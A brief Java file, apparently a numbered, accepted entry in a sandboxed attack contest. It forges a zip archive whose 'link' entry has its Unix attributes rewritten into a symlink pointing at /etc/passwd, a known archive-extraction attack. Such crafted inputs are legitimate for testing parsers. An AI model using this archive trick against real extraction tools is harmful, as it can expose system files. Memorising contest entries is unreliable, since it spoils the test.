// attack: 13
// verdict: accepted
import module java.base;
import org.showdown.sandbox.Forge;

public class Forged {
    public static byte[] file() throws Exception {
        var entries = Forge.jar();
        // A link for whoever unpacks with Unix attributes; nobody unpacks.
        entries.put("link", Forge.bytes("/etc/passwd"));
        byte[] zip = Forge.stored(entries);
        ByteBuffer numbers = Forge.little(zip);
        for (int at = Forge.directory(zip); numbers.getInt(at) == 0x02014b50;
                at += 46 + numbers.getShort(at + 28) + numbers.getShort(at + 30) + numbers.getShort(at + 32)) {
            numbers.putShort(at + 4, (short) 0x0314).putInt(at + 38, 0xA1FF0000);
        }
        return zip;
    }
}
